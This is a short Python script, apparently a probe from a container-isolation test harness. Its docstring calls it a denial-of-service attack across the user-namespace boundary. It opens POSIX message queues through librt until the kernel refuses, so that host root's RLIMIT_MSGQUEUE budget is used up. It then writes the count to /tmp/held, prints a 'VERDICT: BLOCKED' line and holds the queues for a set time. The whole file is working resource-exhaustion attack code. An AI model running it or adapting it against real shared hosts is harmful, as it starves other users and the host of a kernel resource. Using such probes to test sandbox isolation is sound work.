"""Attack (denial of service across the boundary): POSIX message queues are charged to RLIMIT_MSGQUEUE of
the user at every level of the user-namespace chain, so queues made here also count against host root's
819200-byte budget. Create queues until refused, say so, hold them. argv[1]: seconds to hold."""
import ctypes
import os
import sys
import time

rt = ctypes.CDLL("librt.so.1", use_errno=True)


class MqAttr(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long), ("msgsize", ctypes.c_long),
                ("curmsgs", ctypes.c_long), ("pad", ctypes.c_long * 4)]


attr = MqAttr(0, 10, 8192, 0)
n = 0
while n < 1000:
    if rt.mq_open(f"/ale-sec-{n}".encode(), os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(attr)) < 0:
        break
    n += 1
with open("/tmp/held", "w") as f:
    f.write(str(n))
print(f"BLOCKED: holding {n} message queues of 80 KiB (the host checks its own)")
print("VERDICT: BLOCKED", flush=True)
time.sleep(float(sys.argv[1]))
